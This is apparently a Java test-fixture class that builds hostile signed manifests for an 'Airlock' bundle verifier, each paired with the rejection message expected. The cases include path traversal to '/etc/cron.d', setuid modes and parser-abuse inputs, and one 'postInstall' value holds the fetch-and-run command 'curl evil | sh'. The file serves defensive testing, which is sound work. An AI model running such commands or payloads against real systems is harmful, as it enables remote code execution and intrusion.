package io.stellaops.airlock.bundle.adversarial;

import static io.stellaops.airlock.bundle.adversarial.Hostile.A;
import static io.stellaops.airlock.bundle.adversarial.Hostile.C;
import static io.stellaops.airlock.bundle.adversarial.Hostile.refused;
import static java.nio.charset.StandardCharsets.UTF_8;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.stellaops.airlock.bundle.Failure;
import io.stellaops.airlock.bundle.archive.Compression;
import io.stellaops.airlock.bundle.manifest.CanonicalJson;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Consumer;

/**
 * Manifests a malicious builder could sign with a key the reviewer trusts: duplicate JSON keys,
 * deep nesting, huge numbers, wrong types, hostile paths, collisions, modes, validity windows. Each
 * is signed by the trusted key, so the manifest parser and its rules, not the signature, must
 * refuse it.
 */
final class ManifestCases {
    private static final ObjectMapper JSON = new ObjectMapper();

    private ManifestCases() {
    }

    static List<HostileCase> all() {
        List<HostileCase> cases = new ArrayList<>();
        String genuine = new String(Hostile.manifest(), UTF_8);
        raw(cases, "manifest-duplicate-key", "\"generation\" twice, the second one higher",
                genuine.replace("\"generation\":7", "\"generation\":7,\"generation\":9999"), "Duplicate field 'generation'");
        raw(cases, "manifest-deep-nesting", "100000 nested arrays in the predicate",
                genuine.replace("\"generation\":7", "\"generation\":" + "[".repeat(100_000) + "]".repeat(100_000)),
                "nesting depth");
        raw(cases, "manifest-huge-number", "generation with 400 digits",
                genuine.replace("\"generation\":7", "\"generation\":" + "9".repeat(400)), "Number value length (400) exceeds the maximum");
        raw(cases, "manifest-huge-exponent", "generation 1e400", genuine.replace("\"generation\":7", "\"generation\":1e400"),
                "generation");
        raw(cases, "manifest-not-canonical", "the genuine manifest with white space added",
                genuine.replace(",", ", "), "is not in canonical JSON form");
        raw(cases, "manifest-byte-order-mark", "a UTF-8 byte order mark before the JSON", "\ufeff" + genuine, "manifest.json");
        raw(cases, "manifest-not-json", "binary bytes in place of JSON", "\u0000\u0001\u00ffPK\u0003\u0004", "manifest.json");
        mutated(cases, "manifest-wrong-type-generation", "generation as the string \"7\"",
                m -> predicate(m).put("generation", "7"), "generation");
        mutated(cases, "manifest-wrong-type-files", "predicate.files as an object",
                m -> predicate(m).putObject("files"), "files");
        raw(cases, "manifest-generation-over-safe-integer", "generation 2^53, past JSON's safe integers",
                genuine.replace("\"generation\":7", "\"generation\":9007199254740992"), "generation");
        mutated(cases, "manifest-negative-size", "a.yaml listed with size -1", m -> file(m, 0).put("size", -1), "size");
        mutated(cases, "manifest-size-over-limit", "a.yaml listed at 1 TiB, over the per-file cap",
                m -> file(m, 0).put("size", 1L << 40), "size");
        mutated(cases, "manifest-unknown-field", "an extra predicate field 'postInstall'",
                m -> predicate(m).put("postInstall", "curl evil | sh"), "postInstall");
        mutated(cases, "manifest-setuid-mode", "a.yaml with mode 4755", m -> file(m, 0).put("mode", "4755"),
                "is not 0644 or 0755");
        mutated(cases, "manifest-future-format", "predicateType v2",
                m -> m.put("predicateType", "https://stellaops.io/airlock/telemetry-bundle/v2"), "newer than this Airlock reads");
        mutated(cases, "manifest-subject-differs", "subject names pwned.yaml, predicate.files a.yaml",
                m -> ((ObjectNode) m.get("subject").get(0)).put("name", "pwned.yaml"), "differs from");
        path(cases, "manifest-path-traversal", "../pwned.yaml", "has a '..' segment");
        path(cases, "manifest-path-absolute", "/etc/cron.d/pwned", "is absolute");
        path(cases, "manifest-path-drive-letter", "C:pwned.yaml", "contains a ':'");
        path(cases, "manifest-path-unicode-lookalike", "\u0430.yaml", "contains the character U+0430");
        path(cases, "manifest-path-trailing-dot", "a.yaml.", "has a segment ending in '.'");
        path(cases, "manifest-path-is-manifest", "manifest.json", "is reserved for the manifest");
        collision(cases, "manifest-case-collision", "A.yaml", "a.yaml", "case");
        collision(cases, "manifest-duplicate-path", "a.yaml", "a.yaml", "a.yaml");
        collision(cases, "manifest-file-and-folder", "b", "b/c.yaml", "b");
        cases.add(new HostileCase("manifest-expired", "validity", "expiresAt before the verifier's clock (an old bundle replayed)",
                Failure.NOT_VALID_NOW, "expired", signedManifest("manifest-expired", m -> {
                    predicate(m).put("createdAt", "2025-01-01T00:00:00Z");
                    predicate(m).put("expiresAt", "2025-02-01T00:00:00Z");
                })));
        cases.add(new HostileCase("manifest-not-yet-valid", "validity", "createdAt a year after the verifier's clock",
                Failure.NOT_VALID_NOW, "bundle is not yet valid", signedManifest("manifest-not-yet-valid", m -> {
                    predicate(m).put("createdAt", "2027-11-01T10:00:00Z");
                    predicate(m).put("expiresAt", "2028-01-01T00:00:00Z");
                })));
        return cases;
    }

    private static void raw(List<HostileCase> cases, String id, String attack, String manifest, String message) {
        byte[] bytes = manifest.getBytes(UTF_8);
        cases.add(refused(id, "manifest", attack, message, (folder, keys) -> Hostile.signed(folder, keys, id,
                new RawTar().file("manifest.json", bytes).file("a.yaml", A).file("b/c.yaml", C).end().bytes(),
                Compression.GZIP, bytes)));
    }

    private static void mutated(List<HostileCase> cases, String id, String attack, Consumer<ObjectNode> change,
            String message) {
        cases.add(refused(id, "manifest", attack, message, signedManifest(id, change)));
    }

    private static void path(List<HostileCase> cases, String id, String path, String message) {
        mutated(cases, id, "signed manifest listing '" + path + "'", m -> rename(m, 0, path), message);
    }

    private static void collision(List<HostileCase> cases, String id, String first, String second, String message) {
        mutated(cases, id, "signed manifest listing '" + first + "' and '" + second + "'", m -> {
            rename(m, 0, first);
            rename(m, 1, second);
        }, message);
    }

    /** The genuine manifest changed by {@code change}, canonical, signed, with the genuine payload after it. */
    static HostileCase.Maker signedManifest(String id, Consumer<ObjectNode> change) {
        return (folder, keys) -> {
            ObjectNode manifest = (ObjectNode) JSON.readTree(Hostile.manifest());
            change.accept(manifest);
            byte[] bytes = CanonicalJson.write(manifest);
            return Hostile.signed(folder, keys, id,
                    new RawTar().file("manifest.json", bytes).file("a.yaml", A).file("b/c.yaml", C).end().bytes(),
                    Compression.GZIP, bytes);
        };
    }

    private static ObjectNode predicate(ObjectNode manifest) {
        return (ObjectNode) manifest.get("predicate");
    }

    private static ObjectNode file(ObjectNode manifest, int index) {
        return (ObjectNode) predicate(manifest).get("files").get(index);
    }

    private static void rename(ObjectNode manifest, int index, String path) {
        ((ObjectNode) ((ArrayNode) manifest.get("subject")).get(index)).put("name", path);
        file(manifest, index).put("path", path);
    }
}
